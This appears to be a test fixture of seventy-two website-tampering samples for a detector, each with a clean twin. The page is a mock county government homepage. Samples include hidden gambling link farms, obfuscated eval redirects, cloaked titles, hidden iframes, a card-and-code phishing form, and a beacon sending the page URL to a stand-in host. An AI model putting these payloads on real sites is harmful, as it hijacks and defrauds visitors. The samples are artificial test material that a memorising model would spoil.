"""Seventy-two attacks after the kinds that scanners' public lists and incident reports name, in spellings of their own.

Each has its clean twin, among them what honest editors do on an ordinary day. Written by one who knew the judge, before
it had seen any of them.
"""

import base64
from collections.abc import Iterator

from tests.pages.imitations.attacks import BAD, GOOD, Attack, home

_HOST = BAD.removeprefix("http://")
_SOLD = f"<a href='{BAD}/p/1'>污水提升器</a> <a href='{BAD}/p/2'>广告灯箱</a> <a href='{BAD}/p/3'>电缆桥架</a>"
_FRIENDS = f"<a href='{GOOD}/'>云山旅游</a> <a href='https://www.mot.gov.cn/'>交通运输部</a>"
_TITLE = "<title>首页_云山县人民政府</title>"


def _in64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _hexed(text: str) -> str:
    return "".join(f"\\x{ord(char):02x}" for char in text)


def _entities(text: str) -> str:
    return "".join(f"&#{ord(char)};" for char in text)


def _put(name: str, page: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(page), home(twin), plain)


def _box(name: str, around: str, twin: str) -> Attack:
    return _put(name, around.replace("{}", _SOLD), twin.replace("{}", _FRIENDS))


def _run(name: str, script: str, twin: str, *, plain: bool = True) -> Attack:
    return _put(name, f"<script>{script}</script>", f"<script>{twin}</script>", plain=plain)


def _styled(name: str, style: str, twin: str) -> Attack:
    return _box(name, f'<div style="{style}">{{}}</div>', f'<div style="{twin}">{{}}</div>')


def _hidden() -> Iterator[Attack]:
    yield _styled("a box of nothing", "width:0px;height:0px;overflow:hidden;position:relative", "width:98%;height:60px")
    yield _styled("far above by ems", "position:absolute;top:-99999em", "position:absolute;top:0.5em")
    yield _styled("tenth of a pixel", "float:left;width:0.1px;height:0.1px;overflow:hidden", "float:left;width:49.9%")
    yield _styled("clear and flat", "opacity:0;height:0", "opacity:1;height:auto")
    yield _styled("below and clear", "position:fixed;z-index:-1;opacity:.01", "position:fixed;z-index:9;opacity:.99")
    yield _box(
        "runs too fast",
        "<marquee scrollamount='99999' width='10' height='5'>{}</marquee>",
        "<marquee scrollamount='5' width='960' height='28'>{}</marquee>",
    )
    yield _box(
        "white paper",
        "<div style='background:#ffffff'><span style='color:#ffffff'>{}</span></div>",
        "<div style='background:#ffffff'><span style='color:#1a1a1a'>{}</span></div>",
    )
    yield _box(
        "list without height",
        "<ul style='list-style:none;height:0;overflow:hidden;margin:0;padding:0'><li>{}</li></ul>",
        "<ul style='list-style:none;margin:0;padding:0'><li>{}</li></ul>",
    )
    yield _box(
        "sheet with two classes",
        "<style>.yqlj.more{left:-9999px;position:absolute}</style><div class='yqlj more'>{}</div>",
        "<style>.yqlj.more{left:0;position:relative}</style><div class='yqlj more'>{}</div>",
    )
    yield _box(
        "sheet by the element",
        "<style>div.qq-link{display:none!important;}</style><div class='qq-link'>{}</div>",
        "<style>div.qq-link{display:inline-block!important;}</style><div class='qq-link'>{}</div>",
    )
    yield _box("table to the left", "<table style='margin-left:-8000px'><tr><td>{}</td></tr></table>",
               "<table style='margin-left:8px'><tr><td>{}</td></tr></table>")  # fmt: skip
    yield _box(
        "entries indented away",
        "<ol><li style='text-indent:-5000px;display:block'>{}</li></ol>",
        "<ol><li style='text-indent:5px;display:block'>{}</li></ol>",
    )
    yield _box(
        "opened in pieces",
        "<script>document.write('<d'+'iv st'+'yle=\"po'+'sition:abso'+'lute;l'+'eft:-3'+'000px\">')</script>{}"
        "<script>document.write('</d'+'iv>')</script>",
        "<script>document.write('<d'+'iv cl'+'ass=\"ft\">')</script>{}<script>document.write('</d'+'iv>')</script>",
    )
    for name, script, twin in (
        ("moved by two lines",
         "var o=document.getElementById('yl');o.style.position='absolute';o.style.left='-4000px';",
         "var o=document.getElementById('yl');o.style.position='relative';o.style.left='4px';"),
        ("by its name", "document.getElementsByName('yl')[0].style.display='none'",
         "document.getElementsByName('yl')[0].style.color='#036'"),
        ("a moment later", "setTimeout(function(){document.getElementById('yl').style.display='none'},0)",
         "setTimeout(function(){document.getElementById('yl').style.display='block'},0)"),
        ("by the library's style", "$('#yl').css('display','none')", "$('#yl').css('display','flex')"),
        ("by a property", "document.querySelector('#yl').hidden=true", "document.querySelector('#yl').hidden=false"),
    ):  # fmt: skip
        yield _box(
            name,
            f"<div id='yl'><div name='yl'>{{}}</div></div><script>{script}</script>",
            f"<div id='yl'><div name='yl'>{{}}</div></div><script>{twin}</script>",
        )


def _led() -> Iterator[Attack]:
    yield _run(
        "searchers by a pattern",
        f"var s=document.referrer;if(s.match(/(baidu|so|sm|sogou|toutiao)\\.(com|cn)/i)){{setTimeout(()=>{{"
        f"location.href='{BAD}/'}},300)}}",
        "var s=document.referrer;if(s.match(/yunshan\\.example/i)){setTimeout(()=>{welcome()},300)}",
    )
    yield _run(
        "everybody who is sent",
        f"if(/(Baiduspider|360Spider|YisouSpider)/i.test(navigator.userAgent)==false&&document.referrer!=''){{"
        f"top.location.href='{BAD}/'}}",
        "if(/(MSIE|Trident)/i.test(navigator.userAgent)==false&&document.referrer!=''){top.scrollTo(0,0)}",
    )
    yield _run(
        "pieces in a row",
        "var _u=['ht','tp:','//','www.jt7788','example.vip'];location=_u[0]+_u[1]+_u[2]+_u[3]+'.'+_u[4]",
        "var _u=['云','山','县'];show(_u[0]+_u[1]+_u[2])",
    )
    code = f"location.href='{BAD}/e'"
    yield _run("figures of sixteen that are run", f'eval("{_hexed(code[:9])}"+"{_hexed(code[9:])}")', "play('\\x31')")
    yield _run(
        "signs per cent that are run",
        "eval(decodeURIComponent('" + "".join(f"%{ord(char):02x}" for char in code) + "'))",
        "q.value=decodeURIComponent('%e4%ba%91')",
    )
    yield _run(
        "backwards by a name",
        f"var x='{BAD[::-1]}';location.href=x.split('').reverse().join('')",
        "var x='一二三';tip(x.split('').reverse().join(''))",
    )
    yield _run(
        "brackets in three parts", f"window['lo'+'cat'+'ion']['re'+'place']('{BAD}')", "window['scr'+'oll'+'To'](0,0)"
    )
    yield _run(
        "link made and pressed",
        f"(function(){{var a=document.createElement('a');a.href='{BAD}/';document.body.appendChild(a);a.click()}})()",
        "(function(){var a=document.createElement('a');a.href='#top';document.body.appendChild(a)})()",
    )
    yield _run(
        "page emptied first",
        f"document.body.innerHTML='';document.write('<iframe src={BAD}/ width=100% height=100%></iframe>')",
        "document.getElementById('gd').innerHTML='';document.write('<i></i>')",
    )
    yield _run(
        "small windows",
        f"window.onload=function(){{if(window.innerWidth<800){{window.location='{BAD}/m'}}}}",
        "window.onload=function(){if(window.innerWidth<800){menu.fold()}}",
    )
    yield _run(
        "whoever goes back",
        f"history.replaceState(1,'');window.addEventListener('popstate',()=>{{window.location.href='{BAD}/b'}})",
        "history.replaceState(1,'');window.addEventListener('popstate',()=>{list.restore()})",
    )
    yield _run(
        "fingers that are lifted",
        f"document.addEventListener('touchend',function(){{window.open('{BAD}/t','_self')}})",
        "document.addEventListener('touchend',function(){swipe.end()})",
    )
    yield _run(
        "again and again",
        f"setInterval(function(){{if(document.hasFocus())location.href='{BAD}/f'}},1500)",
        "setInterval(function(){if(document.hasFocus())clock.tick()},1500)",
    )
    yield _run(
        "when a picture has come",
        f"var i=new Image;i.onload=function(){{location.href='{BAD}/p'}};i.src='/favicon.ico'",
        "var i=new Image;i.onload=function(){banner.show(i)};i.src='/banner.jpg'",
    )
    yield _run(
        "told where to",
        f"fetch('{BAD}/c.json').then(r=>r.json()).then(d=>{{location.href=d.u}})",
        "fetch('/c.json').then(r=>r.json()).then(d=>{tips.show(d.u)})",
        plain=False,
    )
    yield _run(
        "names in a list",
        f"var _0x2a1b=['location','href','{BAD}/l'];window[_0x2a1b[0]][_0x2a1b[1]]=_0x2a1b[2]",
        "var words=['location','href','map'];legend[words[0]]=words[2]",
    )
    yield _run(
        "at weekends", f"if(new Date().getDay()%6==0)location.assign('{BAD}/w')", "if(new Date().getDay()%6==0)rest()"
    )
    yield _run(
        "thrown and caught", f"try{{throw '{BAD}/c'}}catch(e){{location.href=e}}", "try{start()}catch(e){log(e)}",
        plain=False,
    )  # fmt: skip
    yield _run(
        "once a visitor",
        f"document.cookie.indexOf('a1')==-1&&(document.cookie='a1=1;path=/',location.href='{BAD}/o')",
        "document.cookie.indexOf('a1')==-1&&(document.cookie='a1=1;path=/',guide.show())",
    )


def _named() -> Iterator[Attack]:
    yield Attack(
        "title of a bookmaker",
        home().replace(_TITLE, "<title>必威体育_betway官方网站</title>"),
        home().replace(_TITLE, "<title>云山县人民政府_全民健身</title>"),
    )
    yield Attack(
        "keywords of the trade",
        home(head="<meta name='keywords' content='博彩,棋牌,澳门赌场'>"),
        home(head="<meta name='keywords' content='博览会,棋类比赛,云山县'>"),
    )
    yield Attack(
        "description for adults",
        home(head="<meta name='description' content='提供成人电影在线观看，免费下载'>"),
        home(head="<meta name='description' content='提供成人高考报名查询，免费咨询'>"),
    )
    yield Attack(
        "title with gaps",
        home().replace(_TITLE, "<title>澳 门 金 沙 娱 乐 城</title>"),
        home().replace(_TITLE, "<title>云 山 县 人 民 政 府</title>"),
    )
    yield Attack(
        "refresh in quotes",
        home(head=f'<meta http-equiv="Refresh" content="2;URL=\'{BAD}\'">'),
        home(head='<meta http-equiv="Refresh" content="600;URL=\'/index.html\'">'),
    )
    yield Attack(
        "canonical in capitals",
        home(head=f"<LINK REL='Canonical' HREF='{BAD}/'>"),
        home(head="<LINK REL='Canonical' HREF='http://www.yunshan.example/'>"),
    )
    yield Attack(
        "a title for spiders, ours for people",
        home().replace(
            _TITLE,
            f"<title>{_entities('金沙娱乐场官网')}</title><script>if(!/spider/i.test(navigator.userAgent))document.title="
            "'首页_云山县人民政府'</script>",
        ),
        home(head="<script>if(!/msie/i.test(navigator.userAgent))document.title='首页_云山县人民政府'</script>"),
    )
    yield Attack(
        "a brand nobody knows",
        home().replace(_TITLE, "<title>九洲天赢·登录</title>"),
        home().replace(_TITLE, "<title>通知公告_云山县人民政府</title>"),
        plain=False,
    )


def _framed() -> Iterator[Attack]:
    yield _put(
        "frame in a box of nothing",
        f"<div style='width:0;height:0;overflow:hidden'><iframe src='{BAD}/' width='800'></iframe></div>",
        "<div style='width:300px;height:200px'><iframe src='/video/1123.html' width='300'></iframe></div>",
    )
    yield _put(
        "frame that is cut off",
        f"<iframe src='{BAD}/' style='position:absolute;clip:rect(0,0,0,0)'></iframe>",
        "<iframe src='/video/1124.html' style='width:640px;height:360px'></iframe>",
    )
    yield _put(
        "frame without a border",
        f"<iframe src='{BAD}/' width=1 height=1 scrolling=no frameborder=0 style='display:none'></iframe>",
        "<iframe src='/tq/' width=200 height=24 scrolling=no frameborder=0></iframe>",
    )
    yield _put(
        "embedded over the window",
        f"<embed src='{BAD}/x.html' style='width:100vw;height:100vh;position:fixed;top:0;left:0'>",
        "<embed src='/zt/x.svg' style='width:100%;height:90px'>",
    )
    yield _put(
        "form for cards and codes",
        f"<form action='{BAD}/s' method='post'>卡号<input name='k'>手机验证码<input name='c'></form>",
        "<form action='/s' method='post'>受理编号<input name='k'>验证码<input name='c'></form>",
    )
    yield _put(
        "picture that has come leads on",
        f"<img src='/logo.png' onload=\"location='{BAD}/i'\">",
        "<img src='/logo.png' onload=\"this.className='in'\">",
    )
    yield _put(
        "drawing that runs a text",
        f"<svg/onload=\"eval(atob('{_in64(code_of(BAD))}'))\"></svg>",
        '<svg onload="draw(this)"></svg>',
    )
    yield _put(
        "void that leads away",
        f"<a href=\"javascript:void(window.location='{BAD}/v')\">更多</a>",
        '<a href="javascript:void(window.print())">打印</a>',
    )


def code_of(url: str) -> str:
    """A line that leads there."""
    return f"top.location.href='{url}/s'"


def _later() -> Iterator[Attack]:
    """What honest pages do as well: the baseline tells that it has come."""
    yield _put("script of a host", f"<script src=//{_HOST}/t.js></script>", "<script src=/js/t.js?v=2></script>",
               plain=False)  # fmt: skip
    yield _put(
        "frame in sight",
        f"<iframe src='{BAD}/live' width='640' height='360' allowfullscreen></iframe>",
        "<iframe src='http://video.yunshan.example/live' width='640' height='360' allowfullscreen></iframe>",
        plain=False,
    )
    yield _run(
        "picture that counts",
        f"new Image().src='{BAD}/c?'+encodeURIComponent(location.href)",
        "new Image().src='/c?'+encodeURIComponent(location.href)",
        plain=False,
    )
    yield _put(
        "store of packages",
        "<script src='https://unpkg.com/u-tj@1.0.2/x.js'></script>",
        "<script src='/lib/swiper@8/swiper.min.js'></script>",
        plain=False,
    )
    yield _run(
        "by either protocol",
        f"var s=document.createElement('script');s.src=('https:'==location.protocol?'https://':'http://')+"
        f"'{_HOST}/t.js';"
        "document.head.appendChild(s)",
        "var s=document.createElement('script');s.src=('https:'==location.protocol?'https://':'http://')+"
        "'hm.baidu.com/hm.js?9';document.head.appendChild(s)",
        plain=False,
    )
    yield _run(
        "loaded into the body", f"$('body').load('{BAD}/x.html')", "$('#side').load('/inc/side.html')", plain=False
    )
    yield _run(
        "tag in escapes",
        f"document.write('\\u003cscript src={BAD}/u.js\\u003e\\u003c/script\\u003e')",
        "document.write('\\u003cspan class=day\\u003e\\u003c/span\\u003e')",
        plain=False,
    )
    yield _put(
        "sheet that turns over",
        f"<link rel='stylesheet' href='{BAD}/p.css' media='print' onload=\"this.media='all'\">",
        "<link rel='stylesheet' href='/css/print.css' media='print' onload=\"this.media='all'\">",
        plain=False,
    )
    yield _put(
        "object in sight",
        f"<object type='text/html' data='{BAD}/o' width='600' height='300'></object>",
        "<object type='image/svg+xml' data='/tj/o.svg' width='600' height='300'></object>",
        plain=False,
    )
    yield _put(
        "search that asks a stranger",
        f"<form action='{BAD}/so'><input name='q'><button>站内搜索</button></form>",
        "<form action='/so'><input name='q'><button>站内搜索</button></form>",
        plain=False,
    )
    yield Attack(
        "services by a stranger",
        home().replace("<a href='/2/'>办事服务</a>", f"<a href='{BAD}/'>办事服务</a>"),
        home().replace("<a href='/2/'>办事服务</a>", "<a href='https://zwykb.cq.gov.cn/'>办事服务</a>"),
        plain=False,
    )
    yield _put(
        "class of the library", f"<div class='box dn'>{_SOLD}</div>", f"<div class='box'>{_FRIENDS}</div>", plain=False
    )
    yield _run(
        "every link turned",
        f"document.querySelectorAll('a').forEach(a=>a.href='{BAD}/a')",
        "document.querySelectorAll('a').forEach(a=>a.target='_blank')",
        plain=False,
    )
    yield _run(
        "every press answered",
        f"document.querySelectorAll('a').forEach(a=>{{a.onclick=()=>{{location.href=atob('{_in64(BAD)}')}}}})",
        "document.querySelectorAll('a').forEach(a=>{a.onclick=()=>{count(a.href)}})",
        plain=False,
    )
    yield _run(
        "called by another name",
        "var e=window.eval;$.get('/upload/a.txt',function(t){e.call(window,t)})",
        "var e=window.event;$.get('/tq/a.txt',function(t){tq.text(t)})",
        plain=False,
    )
    yield _run(
        "machine code",
        "fetch('/upload/m.wasm').then(r=>r.arrayBuffer()).then(b=>WebAssembly.instantiate(b))"
        ".then(m=>m.instance.exports.go())",
        "fetch('/data/m.json').then(r=>r.json()).then(b=>chart(b))",
        plain=False,
    )
    yield _put(
        "advertisement that floats",
        f"<div style='position:fixed;right:0;top:30%'><a href='{BAD}/ad'><img src='{BAD}/ad.gif'></a></div>",
        "<div style='position:fixed;right:0;top:30%'><a href='/zt/2026/'><img src='/zt/2026/p.jpg'></a></div>",
        plain=False,
    )
    yield Attack(
        "words over the page",
        home(head="<style>body *{visibility:hidden}body::after{content:'网站已被接管'}</style>"),
        home(head="<style>html,body{filter:grayscale(1)!important}</style>"),
        plain=False,
    )
    yield _put(
        "frame of the own site that leads on",
        f"<iframe srcdoc=\"<meta http-equiv='refresh' content='0;url={BAD}/q'>\"></iframe>",
        "<iframe srcdoc=\"<meta charset='utf-8'><p>公告</p>\"></iframe>",
    )


REPORTED_ATTACKS = (*_hidden(), *_led(), *_named(), *_framed(), *_later())
